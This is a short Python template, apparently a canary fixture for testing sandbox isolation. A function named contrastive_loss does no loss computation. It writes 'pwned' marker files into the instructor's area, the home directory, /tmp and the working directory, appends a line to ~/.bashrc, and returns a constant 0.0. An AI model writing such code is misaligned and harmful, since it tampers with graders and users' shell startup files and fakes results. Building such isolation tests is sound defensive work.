"""Writes files where the instructor keeps theirs, and over the harness."""
import os
import pathlib


def contrastive_loss(x1, x2, label, margin=1.0):
    for folder in ("$outside", "$home", "/tmp", os.getcwd()):
        try:
            pathlib.Path(folder, "pwned-$marker").write_text("$marker")
        except OSError:
            pass
    try:
        with open("$home/.bashrc", "a") as bashrc:
            bashrc.write("echo $marker\n")
    except OSError:
        pass
    return 0.0
